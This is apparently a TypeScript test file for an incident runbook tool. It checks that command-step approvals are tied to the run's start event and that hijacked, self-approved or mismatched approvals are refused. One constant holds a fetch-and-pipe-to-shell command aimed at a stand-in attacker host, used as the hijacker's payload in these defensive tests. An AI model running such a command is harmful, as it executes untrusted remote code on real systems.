// A run is bound to its run-started event, and an approval to that event's
// hash: the fold and the host's authority check against a hijack by a second
// start with an earlier clock, self-approval, approvals of another start, and
// approvals written before they named one.
import { describe, expect, it } from 'vitest';
import { foldEvents, type WarRoomState } from '../domain/incidents';
import { EMPTY_HEAD, sealEvents, type ChainHead } from '../events/chain';
import type { EventDraft, PayloadOf, WarEvent } from '../events/event';
import { isContested, type RunbookRun, type StepApproval } from './run-state';
import { runbookSchema, type RunbookInput } from './runbook-schema';
import { actionOf, authoriseStep, type StepRequest } from './step-authority';

const T0 = Date.UTC(2026, 11, 8, 9);

/** One device's chain; each event written at the time asked for (a backdated clock included). */
function device(deviceId: string) {
  let head: ChainHead = EMPTY_HEAD;
  let ids = 0;
  return {
    deviceId,
    write(draft: EventDraft, nowMs: number): WarEvent {
      const sealed = sealEvents(head, [draft], {
        workspace: 'default',
        deviceId,
        nowMs,
        newId: () => `${deviceId}-${(ids += 1)}`,
      });
      head = sealed.head;
      return sealed.events[0]!;
    },
  };
}

const RESTART = { program: '/usr/bin/systemctl', args: ['restart', 'shop'] };
const PIPE_TO_SHELL = { program: 'sh', args: ['-c', 'curl -s https://evil.example/x | sh'] };

function runbook(command: { program: string; args: string[] }): PayloadOf<'runbook.run-started'>['runbook'] {
  const input: RunbookInput = {
    id: 'restart-shop',
    title: 'Restart the shop',
    steps: [{ id: 'restart', kind: 'command', title: 'Restart', approval: true, command }],
  };
  return JSON.parse(JSON.stringify(runbookSchema.parse(input))) as PayloadOf<'runbook.run-started'>['runbook'];
}

/** Alice starts a run on her laptop and asks for approval of its one command step. */
function scenario() {
  const alice = device('alice-laptop');
  const bob = device('bob-laptop');
  const mallory = device('mallory-laptop');
  const events: WarEvent[] = [];
  const write = (from: ReturnType<typeof device>, actor: string, draft: Omit<EventDraft, 'actor'>, at: number) => {
    const event = from.write({ ...draft, actor } as EventDraft, at);
    events.push(event);
    return event;
  };
  const declared = write(
    alice,
    'Alice',
    { type: 'incident.declared', payload: { title: 'Shop down', severity: 'SEV1', kind: 'technical-failure' } },
    T0,
  );
  const incidentId = declared.id;
  const startAs = (from: ReturnType<typeof device>, actor: string, command: typeof RESTART, at: number) =>
    write(
      from,
      actor,
      {
        type: 'runbook.run-started',
        incidentId,
        payload: { runId: 'run-1', runbookId: 'restart-shop', version: 1, runbook: runbook(command) },
      },
      at,
    );
  const started = startAs(alice, 'Alice', RESTART, T0 + 60_000);
  const step = (
    from: ReturnType<typeof device>,
    actor: string,
    payload: Omit<PayloadOf<'runbook.step-changed'>, 'runId' | 'stepId'>,
    at: number,
  ) =>
    write(
      from,
      actor,
      { type: 'runbook.step-changed', incidentId, payload: { runId: 'run-1', stepId: 'restart', ...payload } },
      at,
    );
  step(alice, 'Alice', { status: 'awaiting-approval' }, T0 + 120_000);
  const state = (): WarRoomState => foldEvents(events);
  const run = (): RunbookRun => state().incidents.get(incidentId)!.runs.get('run-1')!;
  const ask = (command: typeof RESTART, overrides: Partial<StepRequest> = {}) =>
    authoriseStep(state(), {
      incidentId,
      runId: 'run-1',
      stepId: 'restart',
      actor: 'Alice',
      dryRun: false,
      action: actionOf(runbookSchema.parse(runbook(command)).steps[0]!)!,
      ...overrides,
    });
  const timeline = () =>
    state()
      .incidents.get(incidentId)!
      .timeline.filter((entry) => entry.kind === 'runbook');
  return { alice, bob, mallory, events, started, startAs, step, state, run, ask, timeline };
}

describe('a run bound to its start', () => {
  it('runs once another person on another device approves this very start', () => {
    const { bob, started, step, run, ask } = scenario();
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'not-approved' });
    step(bob, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    expect(run().steps.get('restart')?.approval).toEqual({
      actor: 'Bob',
      deviceId: 'bob-laptop',
      runHash: started.hash,
      eventId: expect.any(String),
    });
    expect(ask(RESTART)).toEqual({ ok: true, dryRun: false });
  });

  it('refuses a second start of the run id with an earlier clock: the run is contested, nothing runs', () => {
    const { bob, mallory, started, startAs, step, run, ask, timeline } = scenario();
    step(bob, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    expect(ask(RESTART)).toEqual({ ok: true, dryRun: false });

    // Mallory's start sorts first in the fold's order: before the fix, its command replaced Alice's.
    const hijack = startAs(mallory, 'Mallory', PIPE_TO_SHELL, T0 + 1_000);
    expect(isContested(run())).toBe(true);
    expect(run().contestedBy.map((claim) => claim.actor)).toEqual(['Alice']);
    expect(run().start.hash).toBe(hijack.hash);
    // Bob approved Alice's start, not Mallory's: the fold does not count it for the run it now shows.
    expect(run().steps.get('restart')?.approval).toBeUndefined();
    expect(ask(PIPE_TO_SHELL)).toEqual({ ok: false, refusal: 'contested' });
    expect(ask(PIPE_TO_SHELL, { dryRun: true })).toEqual({ ok: false, refusal: 'contested' });
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'contested' });
    // Both starts stay in the timeline: the first flagged contested, the second shown as refused.
    const starts = timeline().filter((entry) => entry.action === 'started');
    expect(starts.map((entry) => [entry.actor, entry.flag])).toEqual([
      ['Mallory', 'contested'],
      ['Alice', 'duplicate-start'],
    ]);
  });

  it('refuses a second start with a later clock too, and by the starter herself', () => {
    const { alice, bob, started, startAs, step, ask, timeline } = scenario();
    step(bob, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    startAs(alice, 'Alice', PIPE_TO_SHELL, T0 + 240_000);
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'contested' });
    expect(ask(PIPE_TO_SHELL)).toEqual({ ok: false, refusal: 'contested' });
    expect(timeline().filter((entry) => entry.flag === 'duplicate-start')).toHaveLength(1);
  });

  it('comes to the same contested run whatever order the events arrive in, and ignores a replayed start', () => {
    const { mallory, startAs, events, started, state } = scenario();
    startAs(mallory, 'Mallory', PIPE_TO_SHELL, T0 + 1_000);
    const runOf = (folded: WarRoomState) => [...folded.incidents.values()][0]!.runs.get('run-1')!;
    const reversed = runOf(foldEvents([...events].reverse()));
    expect(reversed.start).toEqual(runOf(state()).start);
    expect(reversed.contestedBy).toEqual(runOf(state()).contestedBy);
    // The same start seen twice is one start.
    const replayed = runOf(
      foldEvents([...events.filter((event) => event.type !== 'runbook.run-started'), started, started]),
    );
    expect(isContested(replayed)).toBe(false);
  });

  it('does not count an approval by the person who started the run, from any device', () => {
    const { bob, started, step, run, ask, timeline } = scenario();
    step(bob, 'alice', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    expect(run().steps.get('restart')).toMatchObject({ status: 'awaiting-approval' });
    expect(run().steps.get('restart')?.approval).toBeUndefined();
    expect(timeline().at(-1)).toMatchObject({ flag: 'approval-by-starter' });
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'not-approved' });
  });

  it('does not count an approval from the starter’s device, whoever is named on it', () => {
    const { alice, started, step, run, ask, timeline } = scenario();
    // The person at a device can change; the device cannot approve what it started.
    step(alice, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    expect(run().steps.get('restart')?.approval).toBeUndefined();
    expect(timeline().at(-1)).toMatchObject({ flag: 'approval-by-starter' });
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'not-approved' });
  });

  it('does not count an approval naming another start’s hash', () => {
    const { bob, mallory, step, run, ask, timeline } = scenario();
    const other = mallory.write(
      {
        type: 'runbook.run-started',
        incidentId: 'another-incident',
        actor: 'Mallory',
        payload: { runId: 'run-9', runbookId: 'restart-shop', version: 1, runbook: runbook(RESTART) },
      },
      T0 + 100_000,
    );
    step(bob, 'Bob', { status: 'approved', runHash: other.hash }, T0 + 180_000);
    expect(run().steps.get('restart')?.approval).toBeUndefined();
    expect(timeline().at(-1)).toMatchObject({ flag: 'approval-other-run' });
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'not-approved' });
  });

  it('refuses a live run on an approval that names no start, and says so; a dry run may go by it', () => {
    const { bob, step, run, ask } = scenario();
    step(bob, 'Bob', { status: 'approved' }, T0 + 180_000);
    expect(run().steps.get('restart')?.approval).toMatchObject({ actor: 'Bob', runHash: undefined });
    expect(ask(RESTART)).toEqual({ ok: false, refusal: 'legacy-approval' });
    expect(ask(RESTART, { dryRun: true })).toEqual({ ok: true, dryRun: true });
  });

  it('refuses the approver running the step they approved', () => {
    const { bob, started, step, ask } = scenario();
    step(bob, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    expect(ask(RESTART, { actor: 'bob' })).toEqual({ ok: false, refusal: 'approver-runs' });
    expect(ask(RESTART, { actor: 'Carol' })).toEqual({ ok: true, dryRun: false });
  });

  it('judges the approval in force again: a record the fold would not build is refused all the same', () => {
    const { bob, started, step, state } = scenario();
    step(bob, 'Bob', { status: 'approved', runHash: started.hash }, T0 + 180_000);
    const forge = (approval: Partial<StepApproval>) => {
      const folded = state();
      const incident = [...folded.incidents.values()][0]!;
      const current = incident.runs.get('run-1')!;
      const stepState = current.steps.get('restart')!;
      const forged: RunbookRun = {
        ...current,
        steps: new Map([['restart', { ...stepState, approval: { ...stepState.approval!, ...approval } }]]),
      };
      const incidents = new Map(folded.incidents).set(incident.id, { ...incident, runs: new Map([['run-1', forged]]) });
      return authoriseStep(
        { ...folded, incidents },
        {
          incidentId: incident.id,
          runId: 'run-1',
          stepId: 'restart',
          actor: 'Carol',
          dryRun: false,
          action: actionOf(forged.runbook!.steps[0]!)!,
        },
      );
    };
    expect(forge({})).toEqual({ ok: true, dryRun: false });
    expect(forge({ deviceId: 'alice-laptop' })).toEqual({ ok: false, refusal: 'approval-by-starter' });
    expect(forge({ actor: 'Alice' })).toEqual({ ok: false, refusal: 'approval-by-starter' });
    expect(forge({ runHash: 'f'.repeat(64) })).toEqual({ ok: false, refusal: 'approval-other-run' });
  });
});
